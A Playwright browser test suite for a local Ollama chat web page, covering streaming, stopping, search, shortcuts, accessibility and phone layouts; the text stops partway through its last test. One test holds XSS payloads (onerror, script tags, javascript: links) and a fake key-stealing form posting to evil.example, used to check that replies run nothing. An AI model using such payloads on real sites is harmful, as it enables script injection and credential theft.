/**
 * The chat page in a real browser: Debian's Chromium, driven headless by playwright-core, against
 * the server and the fake Ollama. Screenshots go to test-results/screenshots/.
 */
import assert from 'node:assert/strict'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test, type TestContext } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { FakeOllama } from './support/fake-ollama.ts'
import { authServer, json, rowCounts, storedRows, testServer } from './support/app.ts'
import { PROJECT_ROOT } from './support/process.ts'
import { pngFile } from './support/images.ts'
import { startFakeWeb } from './support/fake-web.ts'
import { startMcpHttpServer } from './support/mcp-http-server.ts'
import { startOAuthServer } from './support/oauth-server.ts'

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'
const SCREENSHOTS = `${PROJECT_ROOT}test-results/screenshots`
// Skipped, saying why, on a developer's machine without the browser; never in CI, where a missing browser fails.
const skip = existsSync(CHROMIUM) || process.env.CI ? false : `no Chromium at ${CHROMIUM} (.ci/run installs Debian's chromium package)`

let browser: Browser | undefined

async function launch(): Promise<Browser> {
  if (!browser) {
    const { chromium } = await import('playwright-core')
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    })
  }
  return browser
}

test.after(async () => {
  await browser?.close()
})

/** A page on a fresh server; errors the page throws fail the test. */
async function openPage(t: TestContext, fake: FakeOllama | null, viewport = { width: 1200, height: 800 }, env: Record<string, string> = {}, beforeLoad?: (page: Page) => Promise<void>) {
  const server = await testServer(t, fake, env)
  const context = await (await launch()).newContext({ viewport })
  t.after(() => context.close())
  const page = await context.newPage()
  const pageErrors: string[] = []
  page.on('pageerror', (error) => pageErrors.push(error.message))
  t.after(() => assert.deepEqual(pageErrors, [], 'the page threw'))
  await beforeLoad?.(page)
  await page.goto(server.url)
  // The page's script has wired the composer: an Enter pressed before that would be lost.
  await page.waitForSelector('body[data-ready]')
  return { page, server }
}

async function startedFake(t: TestContext, scenario: FakeOllama['scenario'] = {}): Promise<FakeOllama> {
  const fake = await new FakeOllama({ scenario }).listen()
  t.after(() => fake.close())
  return fake
}

/** Clicks one of the chat's rarer actions, opening More first where they wait behind it (wide screens). */
async function clickChatAction(page: Page, selector: string): Promise<void> {
  if (!(await page.isVisible(selector))) await page.click('#more-actions')
  await page.click(selector)
}

const lastReply = (page: Page) => page.locator('.message.assistant').last()

async function sendMessage(page: Page, text: string): Promise<void> {
  await page.fill('#input', text)
  await page.press('#input', 'Enter')
}

const AXE_SOURCE = readFileSync(join(PROJECT_ROOT, 'node_modules/axe-core/axe.min.js'), 'utf8')

/** axe-core's checks (WCAG 2.1 A and AA, and its best practices) on the page as it is: no violation. */
async function assertAccessible(page: Page, state: string): Promise<void> {
  // The page's CSP allows no inline script: axe goes in through the test's own evaluation.
  if (!(await page.evaluate(() => 'axe' in globalThis))) await page.evaluate(AXE_SOURCE)
  const violations = await page.evaluate(async () => {
    const result = await (globalThis as any).axe.run((globalThis as any).document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] } })
    return result.violations.map((violation: any) => `${violation.id}: ${violation.nodes.slice(0, 3).map((node: any) => node.target.join(' ')).join(', ')}`)
  })
  assert.deepEqual(violations, [], `axe, ${state}`)
}

test('send a message and see the reply stream in; Shift+Enter adds a line; screenshots', { skip }, async (t) => {
  // Paced: the reply waits for the test, so the composer is seen disabled however fast or slow the machine.
  const fake = await startedFake(t, { paced: true, tokens: ['Here is **bold** text', ' and code:\n\n```js\nconsole.log(1)\n```\n'] })
  const { page } = await openPage(t, fake)
  // Scripts fetched once the page has loaded.
  const scripts: string[] = []
  page.on('request', (request) => request.resourceType() === 'script' && scripts.push(request.url()))
  await page.fill('#input', 'first line')
  await page.press('#input', 'Shift+Enter')
  await page.type('#input', 'second line')
  assert.equal(await page.inputValue('#input'), 'first line\nsecond line')
  await page.press('#input', 'Enter')
  await page.waitForSelector('.message.assistant')
  assert.equal(await page.isDisabled('#send'), true, 'the composer is disabled while a reply streams')
  fake.release(3)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await page.locator('.message.user .body').last().innerText(), 'first line\nsecond line')
  assert.equal(await lastReply(page).locator('strong').innerText(), 'bold')
  assert.equal((await lastReply(page).locator('pre code').innerText()).trim(), 'console.log(1)')
  assert.equal(await lastReply(page).locator('pre button.copy').count(), 1)
  // Highlighted once the reply is whole, by highlight.js loaded for it (not with the page).
  await page.waitForSelector('.message.assistant pre code.hljs .hljs-number')
  assert.equal(await lastReply(page).locator('pre code .hljs-built_in, pre code .hljs-variable').first().innerText(), 'console')
  assert.ok(scripts.some((url) => /\/assets\/highlight-\w+\.js$/.test(url)), 'the highlighter was fetched after the page had loaded')
  assert.equal(await page.isDisabled('#send'), false)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'first line')
  assert.equal(await page.innerText('#chat-title'), 'first line')
  mkdirSync(SCREENSHOTS, { recursive: true })
  await page.screenshot({ path: `${SCREENSHOTS}/desktop.png` })
  await assertAccessible(page, 'a streamed reply')
})

test('Stop cancels the reply: the model is stopped and the message is stored as cancelled', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['Partial ', 'answer ', 'never'], stallAfterTokens: 2 })
  const { page, server } = await openPage(t, fake)
  await sendMessage(page, 'stop me')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant .body')?.textContent?.includes('answer'))
  await page.click('#stop')
  await page.waitForSelector('.message.assistant .status.cancelled')
  assert.equal(await lastReply(page).locator('.status').innerText(), 'Stopped')
  await fake.waitFor(() => fake.chatRequests()[0]!.abortedAt !== null)
  const sessionId = new URL(page.url()).hash.slice(1)
  const stored = await json(await fetch(`${server.url}/v1/sessions/${sessionId}/messages`))
  assert.deepEqual(stored.messages.map((message: { status: string; content: string }) => [message.content, message.status]), [
    ['stop me', 'complete'],
    ['Partial answer ', 'cancelled'],
  ])
})

test('reloading mid-reply re-attaches and the reply completes on the page', { skip }, async (t) => {
  const tokens = Array.from({ length: 20 }, (_, index) => `word${index} `)
  const fake = await startedFake(t, { tokens, paced: true })
  const { page } = await openPage(t, fake)
  fake.release(3)
  await sendMessage(page, 'a long answer please')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant .body')?.textContent?.includes('word2'))
  await page.reload()
  await page.waitForSelector('.message.assistant')
  fake.release(tokens.length)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete', undefined, { timeout: 10_000 })
  assert.equal((await lastReply(page).locator('.body').innerText()).trim(), tokens.join('').trim())
})

test('a message sent before the page has loaded its chats keeps its chat: the first load does not replace it', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['Sent ', 'early.'] })
  // The chat list is held until the message has gone, and the message's request until the page's
  // first load has ended: the order a slow store gives on a page typed into at once.
  let releaseList!: () => void
  const listHeld = new Promise<void>((resolve) => (releaseList = resolve))
  let chatPosted!: () => void
  const chatArrived = new Promise<void>((resolve) => (chatPosted = resolve))
  let releaseChat!: () => void
  const chatHeld = new Promise<void>((resolve) => (releaseChat = resolve))
  const { page } = await openPage(t, fake, undefined, {}, async (page) => {
    await page.route(/\/v1\/sessions\?/, async (route) => {
      await listHeld
      await route.continue()
    })
    await page.route(/\/v1\/chat$/, async (route) => {
      chatPosted()
      await chatHeld
      await route.continue().catch(() => {})
    })
  })
  await sendMessage(page, 'typed at once')
  await chatArrived
  releaseList()
  await page.waitForSelector('body[data-loaded]')
  releaseChat()
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'Sent early.')
  assert.equal(await page.locator('.message.user .body').innerText(), 'typed at once')
  assert.equal(await page.isHidden('#error'), true, 'no error is shown')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'typed at once')
})

test('rename and delete a chat from the page', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page, server } = await openPage(t, fake)
  await sendMessage(page, 'to be renamed')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await clickChatAction(page, '#rename')
  await page.fill('#rename-input', 'My renamed chat')
  await page.click('#rename-ok')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'My renamed chat')
  assert.equal(await page.innerText('#chat-title'), 'My renamed chat')
  await clickChatAction(page, '#delete')
  await page.click('#delete-ok')
  await page.waitForFunction(() => (globalThis as any).document.querySelectorAll('#session-list .chat-item').length === 0)
  assert.equal((await json(await fetch(`${server.url}/v1/sessions`))).sessions.length, 0)
})

test('a reply holding HTML and a javascript: link runs nothing', { skip }, async (t) => {
  const hostile = [
    '<img src=x onerror="window.__xss = 1">',
    '<script>window.__xss = 2</script>',
    '[click me](javascript:window.__xss=3)',
    '<a href="javascript:window.__xss=4">raw link</a>',
    '<svg onload="window.__xss=5"></svg>',
    '<form action="https://evil.example/steal"><input name="key" placeholder="Your API key"><textarea></textarea><select><option>x</option></select><button>Sign in again</button></form>',
    '```html\n<img src=z onerror="window.__xss = 7"><script>window.__xss = 8</script>\n```',
  ]
  const fake = await startedFake(t, { tokens: hostile.map((line) => `${line}\n\n`) })
  const { page } = await openPage(t, fake)
  await sendMessage(page, '<img src=y onerror="window.__xss = 6"> from the user')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  // The highlighter's spans wrap the code's text, never its markup.
  await page.waitForSelector('.message.assistant pre code.hljs')
  assert.match(await lastReply(page).locator('pre code').innerText(), /<img src=z onerror=/)
  for (const link of await lastReply(page).locator('a').all()) {
    assert.doesNotMatch((await link.getAttribute('href')) ?? '', /^javascript:/i)
    await link.click({ noWaitAfter: true }).catch(() => {})
  }
  await page.waitForTimeout(200)
  assert.equal(await page.evaluate(() => (globalThis as { __xss?: number }).__xss), undefined)
  assert.equal(await lastReply(page).locator('script, [onerror], [onload]').count(), 0)
  // A reply cannot dress up as the page: no form or control a user could type a key into (the
  // message's own buttons sit outside its rendered text).
  assert.equal(await lastReply(page).locator('.body').locator('form, input, textarea, select, button:not(.copy)').count(), 0)
  assert.match(await page.locator('.message.user').last().innerText(), /<img src=y/)
})

test('a banner says when Ollama is down', { skip }, async (t) => {
  const { page } = await openPage(t, null, undefined, { OLLAMA_HOST: '127.0.0.1:9' })
  await page.waitForSelector('#banner:not([hidden])')
  assert.match(await page.innerText('#banner'), /Ollama is not reachable/)
  await sendMessage(page, 'hello?')
  // The error line is shared: the model list's own retry ("No Ollama host is reachable. Retrying…")
  // may show first; the chat's problem comes when its answer does.
  await page.waitForFunction(() => /unreachable/.test((globalThis as any).document.querySelector('#error:not([hidden])')?.textContent ?? ''))
  // Nothing was stored: the question is back in the box, the page a new chat, the sidebar empty.
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#input').value === 'hello?')
  assert.equal(await page.locator('.message').count(), 0)
  assert.equal(new URL(page.url()).hash, '')
  assert.equal(await page.locator('#session-list .chat-item').count(), 0)
})

test('a message sent while Ollama is down is kept, and "Send again" answers it with one click once Ollama is back; the error line clears', { skip }, async (t) => {
  const first = await new FakeOllama().listen()
  const port = Number(new URL(first.url).port)
  const { page } = await openPage(t, first)
  await sendMessage(page, 'before')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await first.close()
  await sendMessage(page, 'while Ollama is down')
  await page.waitForSelector('#error:not([hidden])')
  // The question is stored, shown, and offered again.
  await page.waitForSelector('.message.user:last-child [data-action="answer"]')
  assert.equal(await page.locator('.message.user').last().locator('.body').innerText(), 'while Ollama is down')
  const back = await new FakeOllama().listen(port)
  t.after(() => back.close())
  await page.click('.message.user:last-child [data-action="answer"]')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant:last-child')?.getAttribute('data-status') === 'complete')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'You said: while Ollama is down')
  assert.equal(await page.isHidden('#error'), true, 'the error line cleared')
  assert.equal(await page.locator('[data-action="answer"]').count(), 0)
  await page.reload()
  await page.waitForSelector('.message.assistant >> nth=1')
  assert.deepEqual(await page.locator('.message .body').allInnerTexts(), ['before', 'You said: before', 'while Ollama is down', 'You said: while Ollama is down'])
})

test('a search hit on another branch opens that branch and shows the message, marked', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake)
  await sendMessage(page, 'tell me about the zebra')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  // Edited: the zebra question is now on a branch not shown.
  await page.click('.message.user [data-action="edit"]')
  await page.fill('.message.user .edit textarea', 'tell me about the lion')
  await page.press('.message.user .edit textarea', 'Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.user .body')?.textContent === 'tell me about the lion')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await page.fill('#search', 'zebra')
  // The question's hit (the reply's and the chat's title match too).
  const question = page.locator('#search-results button[data-message-id]', { hasNotText: 'You said' })
  await question.waitFor()
  await question.click()
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.user .body')?.textContent === 'tell me about the zebra')
  await page.waitForSelector('.message.user.found')
  assert.equal(await page.locator('.message.user .siblings').innerText(), '1/2')
  assert.equal(await lastReply(page).locator('.body').innerText(), 'You said: tell me about the zebra')
})

test('axe-core finds no violation: a new chat, a reply with code, a dialog, the dark theme, a phone with its menu and chats open', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['Here is **bold** and `inline`:\n\n```js\nconst answer = 42 // the answer\nconsole.log("text", answer)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n'] })
  const { page } = await openPage(t, fake)
  await assertAccessible(page, 'a new chat')
  // Nothing marked hidden shows, whatever its own display rule (the Tools switch's did, with no tool configured).
  const shown = await page.evaluate(() => [...(globalThis as any).document.querySelectorAll('[hidden]')].filter((element: any) => (globalThis as any).getComputedStyle(element).display !== 'none').map((element: any) => element.id || element.className))
  assert.deepEqual(shown, [])
  assert.equal(await page.isVisible('#tools-switch'), false, 'no tool configured, no Tools switch')
  await sendMessage(page, 'show me code')
  await page.waitForSelector('.message.assistant pre code.hljs')
  await assertAccessible(page, 'a reply with highlighted code')
  await clickChatAction(page, '#rename')
  await assertAccessible(page, 'the Rename dialog')
  await page.press('#rename-input', 'Escape')
  await page.emulateMedia({ colorScheme: 'dark' })
  await assertAccessible(page, 'the dark theme')
  await page.setViewportSize({ width: 390, height: 780 })
  await page.click('#chat-menu')
  await assertAccessible(page, 'a phone, the menu open')
  await page.click('#chat-menu')
  await page.click('#toggle-sidebar')
  await assertAccessible(page, 'a phone, the chats open')
})

test('keyboard shortcuts: ? or Ctrl+/ opens their sheet; new chat, search, the composer, copying the last reply and the sidebar each have one', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake)
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await sendMessage(page, 'remember this')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  // "?" in the message box is a question mark; outside it, the sheet.
  await page.type('#input', '?')
  assert.equal(await page.inputValue('#input'), '?')
  assert.equal(await page.evaluate(() => (globalThis as any).document.querySelector('#shortcuts-dialog').open), false)
  await page.fill('#input', '')
  await page.click('#chat-title')
  await page.keyboard.press('?')
  await page.waitForSelector('#shortcuts-dialog[open]')
  const keys = await page.locator('#shortcuts-dialog kbd').allInnerTexts()
  for (const key of ['Ctrl+Shift+O', 'Ctrl+K', 'Shift+Escape', 'Escape', 'Ctrl+Shift+Y', 'Ctrl+Shift+S', 'Ctrl+/', '/']) assert.ok(keys.includes(key), `${key} is on the sheet`)
  await assertAccessible(page, 'the shortcuts sheet')
  mkdirSync(SCREENSHOTS, { recursive: true })
  await page.screenshot({ path: `${SCREENSHOTS}/shortcuts.png` })
  await page.keyboard.press('Escape')
  await page.waitForSelector('#shortcuts-dialog:not([open])', { state: 'attached' })
  await page.focus('#input')
  await page.keyboard.press('Control+/')
  await page.waitForSelector('#shortcuts-dialog[open]')
  await page.keyboard.press('Escape')

  await page.keyboard.press('Control+K')
  await page.waitForFunction(() => (globalThis as any).document.activeElement?.id === 'search')
  await page.keyboard.press('Shift+Escape')
  await page.waitForFunction(() => (globalThis as any).document.activeElement?.id === 'input')
  await page.keyboard.press('Control+Shift+Y')
  await page.waitForFunction(async () => (await (globalThis as any).navigator.clipboard.readText()) === 'You said: remember this')
  await page.keyboard.press('Control+Shift+S')
  await page.waitForSelector('.layout.sidebar-hidden')
  assert.equal(await page.isVisible('#new-chat'), false)
  await page.keyboard.press('Control+Shift+S')
  await page.waitForSelector('#new-chat', { state: 'visible' })
  await page.keyboard.press('Control+Shift+O')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#chat-title')?.textContent === 'New chat')
  assert.equal(await page.locator('.message').count(), 0)
  assert.equal(await page.evaluate(() => (globalThis as any).document.activeElement?.id), 'input')
})

test('with the Ollama-down banner up, the page stays within the window: the composer and Export/Import are on screen', { skip }, async (t) => {
  const { page } = await openPage(t, null, { width: 1200, height: 700 }, { OLLAMA_HOST: '127.0.0.1:9' })
  await page.waitForSelector('#banner:not([hidden])')
  const height = 700
  for (const selector of ['#composer', '#export-all', '#send']) {
    const box = (await page.locator(selector).boundingBox())!
    assert.ok(box.y + box.height <= height, `${selector} ends at ${box.y + box.height}, past the window's ${height}`)
  }
  assert.equal(await page.evaluate(() => (globalThis as any).document.documentElement.scrollHeight), height, 'the page itself does not scroll')
})

test('Enter in the Rename dialog saves; Escape and Cancel change nothing', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake)
  await sendMessage(page, 'to be renamed by Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  await clickChatAction(page, '#rename')
  await page.fill('#rename-input', 'Renamed with Enter')
  await page.press('#rename-input', 'Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'Renamed with Enter')
  assert.equal(await page.innerText('#chat-title'), 'Renamed with Enter')
  await clickChatAction(page, '#rename')
  await page.fill('#rename-input', 'Not this')
  await page.press('#rename-input', 'Escape')
  await clickChatAction(page, '#rename')
  await page.fill('#rename-input', 'Nor this')
  await page.click('#rename-dialog button:has-text("Cancel")')
  assert.equal(await page.evaluate(() => (globalThis as any).document.querySelector('#rename-dialog').open), false)
  assert.equal(await page.innerText('#chat-title'), 'Renamed with Enter')
})

test('while a reply streams, the view follows it only from the bottom; scrolled up, it stays put and "Jump to latest" brings it back', { skip }, async (t) => {
  const tokens = Array.from({ length: 120 }, (_, index) => `line ${index}\n\n`)
  const fake = await startedFake(t, { tokens, paced: true })
  const { page } = await openPage(t, fake, { width: 1200, height: 600 })
  const messages = page.locator('#messages')
  const atBottom = () => messages.evaluate((list: any) => list.scrollHeight - list.scrollTop - list.clientHeight < 4)
  await sendMessage(page, 'a long one')
  fake.release(40)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant .body')?.textContent?.includes('line 39'))
  assert.equal(await atBottom(), true, 'following from the bottom')
  assert.equal(await page.isHidden('#jump-latest'), true)
  // The reader scrolls up: more text comes, and the view stays where the reader is.
  await messages.evaluate((list: any) => list.scrollTo({ top: 0 }))
  await page.waitForSelector('#jump-latest:not([hidden])')
  fake.release(40)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant .body')?.textContent?.includes('line 79'))
  assert.equal(await messages.evaluate((list: any) => list.scrollTop), 0, 'not pulled back down')
  await page.click('#jump-latest')
  await page.waitForFunction(() => {
    const list = (globalThis as any).document.querySelector('#messages')
    return list.scrollHeight - list.scrollTop - list.clientHeight < 4
  })
  await page.waitForSelector('#jump-latest', { state: 'hidden' })
  fake.release(tokens.length)
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  assert.equal(await atBottom(), true, 'back at the bottom, it follows again')
})

test('keyboard: Escape stops a streaming reply and keeps focus in the composer; Enter sends an edit, Shift+Enter adds a line, Escape cancels it', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['Partial ', 'answer ', 'never'], stallAfterTokens: 2 })
  const { page } = await openPage(t, fake)
  await sendMessage(page, 'stop me with Escape')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant .body')?.textContent?.includes('answer'))
  assert.notEqual(await page.evaluate(() => (globalThis as any).document.activeElement?.tagName), 'BODY', 'focus stays on something while the reply streams')
  // Shift+Escape goes to the message box and stops nothing.
  const cancels: string[] = []
  page.on('request', (request) => request.url().endsWith('/cancel') && cancels.push(request.url()))
  await page.click('#chat-title')
  await page.keyboard.press('Shift+Escape')
  await page.waitForFunction(() => (globalThis as any).document.activeElement?.id === 'input')
  // A stop would have sent its cancel from the key's own handler, before this round trip ends.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)))
  assert.deepEqual(cancels, [], 'no cancel was sent')
  await page.keyboard.press('Escape')
  await page.waitForSelector('.message.assistant .status.cancelled')
  assert.equal(cancels.length, 1, 'Escape sent one')
  await page.waitForFunction(() => (globalThis as any).document.activeElement?.id === 'input')
  fake.scenario = {}
  await page.click('.message.user [data-action="edit"]')
  await page.press('.message.user .edit textarea', 'Escape')
  assert.equal(await page.locator('.message.user .edit').count(), 0, 'Escape cancels the edit')
  await page.click('.message.user [data-action="edit"]')
  await page.fill('.message.user .edit textarea', 'edited')
  await page.press('.message.user .edit textarea', 'Shift+Enter')
  await page.type('.message.user .edit textarea', 'with a second line')
  await page.press('.message.user .edit textarea', 'Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.user .body')?.textContent === 'edited\nwith a second line')
  // The button that opens the file picker shows the keyboard's focus (its input is visually hidden).
  await page.waitForSelector('#send:not([disabled])')
  await page.focus('#input')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  assert.equal(await page.evaluate(() => (globalThis as any).document.activeElement?.id), 'attach')
  assert.equal(await page.locator('label[for="attach"]').evaluate((label: any) => (globalThis as any).getComputedStyle(label).outlineStyle), 'solid')
})

test('Copy says "Copied", then "Copy" again; the composer grows with its text, up to a bound', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['Some ', 'text\n\n```py\nprint(1)\n```\n'] })
  const { page } = await openPage(t, fake, { width: 1200, height: 800 })
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await sendMessage(page, 'copy me')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  for (const selector of ['.message.assistant [data-action="copy"]', '.message.assistant pre button.copy']) {
    await page.click(selector)
    await page.waitForFunction((at) => (globalThis as any).document.querySelector(at)?.textContent === 'Copied', selector)
    await page.waitForFunction((at) => (globalThis as any).document.querySelector(at)?.textContent === 'Copy', selector)
  }
  const height = () => page.locator('#input').evaluate((box: any) => box.getBoundingClientRect().height)
  const start = await height()
  await page.fill('#input', Array.from({ length: 8 }, (_, index) => `line ${index}`).join('\n'))
  const grown = await height()
  assert.ok(grown > start + 40, `grew from ${start} to ${grown}`)
  await page.fill('#input', Array.from({ length: 200 }, (_, index) => `line ${index}`).join('\n'))
  const bounded = await height()
  assert.ok(bounded <= 800 * 0.4 + 1, `at most 40% of the window, not ${bounded}`)
  await page.fill('#input', '')
  const final = await height()
  assert.ok(Math.abs(final - start) < 2, `and shrinks back: ${start} then ${final}`)
})

test('at a phone width the page fits and still chats', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake, { width: 390, height: 780 })
  await sendMessage(page, 'hello from a phone')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const overflow = await page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth - (globalThis as any).document.documentElement.clientWidth)
  assert.equal(overflow, 0, 'the page scrolls sideways')
  assert.ok(await page.isVisible('#send'))
  assert.equal(await page.isHidden('#temporary-switch'), true, 'a stored chat is not temporary')
  mkdirSync(SCREENSHOTS, { recursive: true })
  await page.screenshot({ path: `${SCREENSHOTS}/phone.png` })
  await assertAccessible(page, 'a phone')
})

test('at a phone width, opening Chats scrolls nothing sideways, and the headers take one row each with the chat\'s actions in a menu', { skip }, async (t) => {
  const fake = await startedFake(t)
  const { page } = await openPage(t, fake, { width: 390, height: 780 })
  await sendMessage(page, 'a phone chat with a title long enough to need cutting on a narrow screen')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const sideways = () => page.evaluate(() => (globalThis as any).document.documentElement.scrollWidth - (globalThis as any).document.documentElement.clientWidth)
  const heightOf = async (selector: string) => (await page.locator(selector).boundingBox())!.height
  // Closed: the sidebar is one row (Chats, New chat), the chat's head one row (title, Menu).
  assert.ok(await heightOf('.sidebar') < 70, `the sidebar takes ${await heightOf('.sidebar')} px`)
  assert.ok(await heightOf('.chat-head') < 70, `the chat's head takes ${await heightOf('.chat-head')} px`)
  assert.equal(await page.isVisible('#rename'), false, 'the actions are in the menu')
  await page.click('#chat-menu')
  assert.equal(await page.getAttribute('#chat-menu', 'aria-expanded'), 'true')
  await clickChatAction(page, '#rename')
  await page.fill('#rename-input', 'Renamed on a phone')
  await page.press('#rename-input', 'Enter')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#chat-title')?.textContent === 'Renamed on a phone')
  assert.equal(await page.isVisible('#rename'), false, 'the menu closes once used')
  await page.click('#toggle-sidebar')
  await page.waitForSelector('#session-list.open')
  assert.equal(await sideways(), 0, 'nothing scrolls sideways with Chats open')
  assert.ok(await page.isVisible('#search'), 'search is with the chats')
  await page.click('#session-list button')
  assert.equal(await sideways(), 0)
})

test('replies show tables with borders and a header rule, quotes with a bar, inline code on a background, and each code block\'s language', { skip }, async (t) => {
  const fake = await startedFake(t, { tokens: ['| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\nRun `ls` now.\n\n```python\nprint(1)\n```\n'] })
  const { page } = await openPage(t, fake)
  await sendMessage(page, 'format it')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
  const style = (selector: string, property: string) => lastReply(page).locator(selector).first().evaluate((element: any, name: string) => (globalThis as any).getComputedStyle(element).getPropertyValue(name), property)
  assert.equal(await style('td', 'border-top-style'), 'solid')
  assert.ok(parseFloat(await style('th', 'border-bottom-width')) >= 2, 'a rule under the header')
  assert.equal(await style('blockquote', 'border-left-style'), 'solid')
  assert.notEqual(await style('p code', 'background-color'), 'rgba(0, 0, 0, 0)')
  assert.equal(await lastReply(page).locator('pre .code-language').innerText(), 'python')
  // The label is not part of what Copy copies.
  assert.equal((await lastReply(page).locator('pre code').innerText()).trim(), 'print(1)')
})

test('when the default model is not installed, the page says how to get it and offers the installed ones', { skip }, async (t) => {
  const fake = await new FakeOllama({ models: ['qwen3:8b', 'gemma3:4b'] }).listen()
  t.after(() => fake.close())
  const { page } = await openPage(t, fake)
  await page.waitForSelector('#model-note:not([hidden])')
  const note = await page.innerText('#model-note')
  assert.match(note, /llama3\.2 is not installed/)
  assert.match(note, /ollama pull llama3\.2/)
  assert.match(note, /qwen3:8b/)
  assert.deepEqual(await page.locator('#model option').allTextContents(), ['Default (llama3.2)', 'qwen3:8b', 'gemma3:4b'])
  await page.selectOption('#model', 'qwen3:8b')
  await page.waitForSelector('#model-note', { state: 'hidden' })
})

/** The sidebar's groups as headings, each with its chats' titles (a folder's with its count). */
const sidebarGroups = (page: Page) => page.locator('#session-list > li').evaluateAll((groups: any[]) => groups.map((group) =>
  [group.querySelector('h2')?.textContent ?? '', [...group.querySelectorAll(':scope > ul > li > button')].map((button: any) => button.textContent)]))

test('organise chats: grouped by date, pinned, filed in folders (dialog and drag and drop), archived and restored; kept on the server', { skip }, async (t) => {
  const { page, server } = await openPage(t, await startedFake(t), { width: 1280, height: 800 })
  const { app } = server
  const days = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString()
  const chats: Record<string, string> = {}
  for (const [title, age] of [['Old notes', 60], ['Last week', 3], ['Yesterday\'s', 1], ['Recipe', 0], ['Trip plans', 0]] as const) {
    chats[title] = (await app.store.createSession({ title })).id
    if (age) await storedRows(app, 'UPDATE sessions SET updated_at = ? WHERE id = ?', days(age), chats[title]!)
  }
  await page.reload()
  await page.waitForSelector('#session-list h2')
  // Made in the same millisecond, today's two are in either order.
  assert.deepEqual((await sidebarGroups(page)).map(([heading, titles]) => [heading, titles.sort()]), [
    ['Today', ['Recipe', 'Trip plans']], ['Yesterday', ['Yesterday\'s']], ['Previous 7 days', ['Last week']], ['Older', ['Old notes']]])

  // Pin the open chat; file it with the dialog, by keyboard.
  await page.click('#session-list button:text-is("Trip plans")')
  await page.waitForFunction(() => !(globalThis as any).document.querySelector('#pin').disabled)
  await clickChatAction(page, '#pin')
  await page.waitForFunction(() => (globalThis as any).document.querySelector('#pin').textContent === 'Unpin')
  await page.focus('#more-actions')
  await page.keyboard.press('Enter')
  await page.waitForFunction(() => (globalThis as any).document.activeElement?.id === 'rename', undefined, { polling: 'raf' })
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
